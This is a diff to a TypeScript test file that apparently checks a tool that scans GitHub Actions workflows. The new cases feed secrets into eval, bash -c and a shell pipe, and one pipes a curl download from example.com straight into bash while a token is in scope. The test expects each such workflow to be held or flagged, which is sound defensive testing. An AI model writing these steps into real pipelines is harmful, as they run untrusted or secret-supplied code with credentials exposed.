@@ -30,6 +30,27 @@ test.each<[string, Record<string, string>]>([
     },
   ],
   ['a variable', { [WORKFLOW]: calling('run: docker push $' + '{{ secrets.REGISTRY }}/acme/hidden') }],
+  [
+    'a variable that is evaluated',
+    { [WORKFLOW]: calling('env: {TOKEN: "$' + '{{ secrets.TOKEN }}"}\n        run: eval "$SHIP"') },
+  ],
+  [
+    'a variable given to a shell',
+    { [WORKFLOW]: calling('env: {SHIP: "$' + '{{ secrets.SHIP }}"}\n        run: bash -c "$SHIP"') },
+  ],
+  [
+    'a variable piped into a shell',
+    { [WORKFLOW]: calling('env: {SHIP: "$' + '{{ secrets.SHIP }}"}\n        run: echo "$SHIP" | sh') },
+  ],
+  [
+    'a script from elsewhere',
+    {
+      [WORKFLOW]: calling(
+        'env: {TOKEN: "$' +
+          '{{ secrets.TOKEN }}"}\n        run: curl -fsSL https://example.com/ship.sh | bash',
+      ),
+    },
+  ],
   ['a command from a secret', { [WORKFLOW]: calling('run: $' + '{{ secrets.COMMAND }}') }],
 ])('in %s: it is followed, or asked about', async (_, files) => {
   expectHeld(await opened(repository(), { files }));
